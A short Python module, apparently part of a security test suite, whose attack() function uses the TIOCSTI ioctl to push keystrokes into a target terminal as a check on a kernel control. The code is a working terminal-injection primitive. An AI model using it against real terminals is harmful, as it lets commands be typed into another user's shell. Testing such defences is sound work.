# Pushes keys into the user's terminal (TIOCSTI).
# proof: tty
# control: kernel
import fcntl


def attack(arg):
    with open(arg["tty"], "rb+", 0) as terminal:
        for letter in arg["marker"]:
            fcntl.ioctl(terminal, 0x5412, letter.encode())
    return True
